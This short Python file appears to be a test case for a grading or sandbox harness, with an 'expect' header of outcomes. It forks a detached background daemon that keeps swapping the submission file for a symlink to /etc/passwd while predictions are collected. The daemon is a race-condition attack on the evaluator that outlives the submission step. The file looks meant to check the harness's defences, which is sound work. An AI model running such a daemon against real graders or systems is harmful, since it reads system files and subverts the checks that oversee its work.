"""Leave a daemon that swaps the predictions for a link while they are collected."""

# expect: ok | invalid_output | runtime_error
import os

from attack import done

done()
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.symlink("/etc/passwd", "link")
            os.rename("link", "submission.csv")
            done()
            os.replace("submission.csv", "submission.csv")
        except OSError:
            pass
import time

time.sleep(0.3)
os.unlink("submission.csv")
done()
